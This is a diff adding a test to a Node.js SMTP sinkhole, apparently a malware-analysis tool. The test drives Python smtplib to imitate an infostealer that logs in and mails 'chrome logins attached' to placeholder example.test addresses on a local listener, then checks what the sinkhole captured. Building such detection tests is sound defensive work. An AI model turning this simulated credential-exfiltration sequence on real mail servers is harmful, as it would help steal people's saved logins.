@@ -4,6 +4,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createPrivateKey, X509Certificate } from 'node:crypto';
+import { execFile } from 'node:child_process';
 import { mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs';
 import { createConnection, createServer, type Server, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
@@ -266,6 +267,48 @@ test('catchSession greets the server-first protocol its listener names: SMTP is 
     assert.deepEqual(s.map((x) => x.protocol), ['smtp', 'ftp', 'other']);
     assert.deepEqual(s[0]?.smtp, { helo: 'bot', from: 'promo@shop.example.test', to: ['victim@example.test'], recipients: 1, subject: 'You won' });
     assert.equal(s[1]?.preview, 'USER anonymous\\r\\n');
+  } finally {
+    server.close();
+  }
+});
+
+/** Python's smtplib (a real mail client, as stealers written in Python use it, saying EHLO devbox) run against `port`; resolves to its exit code and last line. */
+function smtplib(port: number, script: string): Promise<{ code: number | null; said: string }> {
+  const program = `import smtplib, ssl, sys\ns = smtplib.SMTP('127.0.0.1', ${port}, local_hostname='devbox', timeout=10)\n${script}\n`;
+  return new Promise((resolve) => {
+    execFile('python3', ['-I', '-c', program], { timeout: 20_000 }, (e, _out, err) => {
+      resolve({ code: e ? (typeof e.code === 'number' ? e.code : 1) : 0, said: err.trim().split('\n').pop() ?? '' });
+    });
+  });
+}
+
+test('catchSession on the SMTP listener with a certificate: Python smtplib upgrades with STARTTLS when it does not check certificates, logs in and sends, all read inside the TLS; one that checks them is refused and logged with what it said in the clear; AUTH PLAIN in the clear is kept too', async () => {
+  const log = new SessionLog();
+  const server = createServer((c) => catchSession(c, log, () => ({ address: '198.18.0.7', port: 587, domain: 'smtp.example.test' }), { greet: 'smtp', tls: sinkholeTlsContext }));
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  const { port } = server.address() as { port: number };
+  const send = "s.sendmail('pc@example.test', ['ops@example.test'], 'Subject: PW_devbox\\r\\n\\r\\nchrome logins attached\\r\\n')\ns.quit()";
+  try {
+    const unverified = await smtplib(port, `s.ehlo('devbox')\ns.starttls(context=ssl._create_unverified_context())\ns.login('logs@mail.example.test', 'Hunter2!')\n${send}`);
+    assert.deepEqual(unverified, { code: 0, said: '' });
+    const verified = await smtplib(port, 's.ehlo(\'devbox\')\ns.starttls(context=ssl.create_default_context())');
+    assert.notEqual(verified.code, 0);
+    assert.match(verified.said, /CERTIFICATE_VERIFY_FAILED/);
+    const clear = await smtplib(port, `s.login('bot', 'pw')\n${send}`);
+    assert.deepEqual(clear, { code: 0, said: '' });
+    const [tls, refused, plain] = log.log().sessions;
+    assert.equal(tls?.protocol, 'smtp');
+    assert.deepEqual(tls?.smtp, {
+      helo: 'devbox', from: 'pc@example.test', to: ['ops@example.test'], recipients: 1, subject: 'PW_devbox',
+      auth: { mechanism: 'PLAIN', user: 'logs@mail.example.test', password: 'Hunter2!' }, starttls: true,
+    });
+    assert.match(tls?.preview ?? '', /^ehlo devbox\\r\\nSTARTTLS\\r\\n$/, 'the bytes on the wire in the clear end at STARTTLS');
+    assert.ok((tls?.decrypted?.bytes ?? 0) > 100, 'what followed was read inside the TLS');
+    assert.match(tls?.decrypted?.preview ?? '', /^ehlo devbox\\r\\nAUTH PLAIN /);
+    assert.deepEqual(refused?.smtp, { helo: 'devbox', to: [], recipients: 0 });
+    assert.equal(refused?.decrypted, undefined);
+    assert.deepEqual(plain?.smtp?.auth, { mechanism: 'PLAIN', user: 'bot', password: 'pw' });
+    assert.equal(plain?.smtp?.starttls, undefined);
   } finally {
     server.close();
   }
